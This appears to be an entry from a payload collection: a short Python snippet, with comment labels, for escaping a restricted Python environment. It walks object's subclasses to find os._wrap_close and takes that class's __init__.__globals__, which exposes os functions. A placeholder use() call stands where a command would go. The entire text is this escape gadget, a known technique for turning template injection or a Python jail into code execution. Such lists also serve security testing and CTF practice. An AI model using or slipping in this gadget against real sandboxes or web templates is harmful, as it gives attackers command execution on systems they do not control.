# tries: up the order of methods and down again
# class: class chains
# bare: python
for c in type("").__mro__[-1].__subclasses__():
    if c.__name__ == "_wrap_close":
        use(c.__init__.__globals__)
